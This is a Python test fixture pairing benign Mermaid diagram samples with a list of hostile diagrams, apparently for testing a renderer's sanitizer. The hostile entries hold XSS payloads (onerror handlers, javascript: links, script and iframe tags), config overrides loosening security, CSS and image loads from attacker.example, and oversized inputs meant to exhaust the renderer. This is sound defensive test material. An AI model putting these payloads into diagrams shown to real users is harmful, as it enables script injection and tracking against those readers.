"""Diagrams as models write them, and as attackers would have them write them."""
# ruff: noqa: E501 - a line break inside a sample would change what it is

FLOW = "graph TD\n  A[Question] --> B{Found?}\n  B -->|yes| C[Answer]\n  B -->|no| D[Say so]\n"
DRAWN = {
    "flow": FLOW,
    "chinese": "graph LR\n  甲[提交报销单] --> 乙[十个工作日内支付]\n",
    "sequence": "sequenceDiagram\n  Web->>Runner: claim\n  Runner-->>Web: events\n",
    "state": "stateDiagram-v2\n  [*] --> Queued\n  Queued --> Ready\n  Ready --> [*]\n",
    "pie": 'pie title Where time goes\n  "Model" : 80\n  "Retrieval" : 20\n',
    "gantt": "gantt\n  dateFormat YYYY-MM-DD\n  section One\n  Build :a1, 2026-01-01, 30d\n",
}
HOSTILE = [
    'graph TD\nA-->B\nclick A "https://attacker.example"',
    'graph TD\nA-->B\nclick A "javascript:alert(1)"',
    "graph TD\nA-->B\nclick A call alert(1)",
    'graph TD\nA["<img src=x onerror=alert(1)>"]-->B',
    'graph TD\nA["<img src=https://attacker.example/p.png>"]-->B["<script>alert(1)</script>"]',
    'graph TD\nA["<a href=javascript:alert(1)>x</a>"]-->B["<iframe src=//attacker.example>"]',
    '%%{init: {"securityLevel": "loose", "htmlLabels": true, "flowchart": {"htmlLabels": true}}}%%\ngraph TD\nA["<img src=x onerror=alert(1)>"]-->B',
    '%%{init: {"themeCSS": "*{background:url(https://attacker.example/p.png)} @import url(https://attacker.example/c.css);"}}%%\ngraph TD\nA-->B',
    '%%{init: {"fontFamily": "x; } * { background: url(https://attacker.example/f) } a {"}}%%\ngraph TD\nA-->B',
    'graph TD\nA@{ img: "https://attacker.example/p.png", label: "x", h: 60 }',
    "graph TD\nA-->B\nstyle A fill:url(https://attacker.example/p.png),background:url(https://attacker.example)",
    "graph TD\nclassDef x fill:#f9f,background-image:url(https://attacker.example/p.png)\nA:::x-->B",
    'sequenceDiagram\nparticipant A\nlink A: x @ https://attacker.example\nlinks A: {"y": "javascript:alert(1)"}\nA->>A: <img src=x onerror=alert(1)>',
    'classDiagram\nclass A\nlink A "javascript:alert(1)" "x"\ncallback A "alert"',
    'pie title <img src=x onerror=alert(1)>\n"</text><script>alert(1)</script>" : 1',
    "mindmap\n  root((<img src=x onerror=alert(1)>))\n    ::icon(fa fa-book)",
    'gantt\nsection <script>alert(1)</script>\nx :a, 2026-01-01, 1d\nclick a href "javascript:alert(1)"',
    'graph TD\nA["$$\\includegraphics{https://attacker.example/x.png}$$"]',
    "graph TD\n" + "\n".join(f"A{n}-->A{n + 1}" for n in range(700)),
    "graph TD\nA-->" + "B" * 30_000,
    "not a diagram <img src=x onerror=alert(1)>",
]
